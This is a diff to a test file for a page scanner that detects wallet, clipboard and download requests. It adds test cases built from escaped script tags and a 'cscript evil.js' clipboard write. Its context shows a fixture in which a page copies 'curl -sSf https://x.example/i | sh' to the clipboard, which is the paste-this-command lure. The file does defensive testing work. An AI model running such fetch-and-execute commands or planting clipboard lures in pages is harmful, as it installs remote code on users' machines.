@@ -183,6 +183,21 @@ describe('a wallet, a clipboard and a download are asked for', () => {
       [],
       '<pre>curl -sSf https://x.example/i | sh</pre><script>navigator.clipboard.writeText(pre.innerText)</script>',
     ],
+    ...String.raw`\x3cscript src=/a.js \u003cscript src=/a.js %3cscript src=/a.js`
+      .split(/(?<=js) /)
+      .map(
+        (escaped) =>
+          [
+            `no command where ${escaped.slice(0, -9)} begins a script`,
+            [],
+            `<script>var head = '${escaped}'; navigator.clipboard.writeText(location.href)</script>`,
+          ] as const,
+      ),
+    [
+      'a command in code',
+      ['clipboard'],
+      '<script>var run = "cscript evil.js"; navigator.clipboard.writeText(run)</script>',
+    ],
     ['a program', ['download'], '<a href="/setup%2Dx64.EXE?v=1">Download</a>'],
     ['a document', [], '<a href="/report.pdf">Download</a>'],
     ['a page whose name only ends so', [], '<a href="https://example.com">Home</a>'],
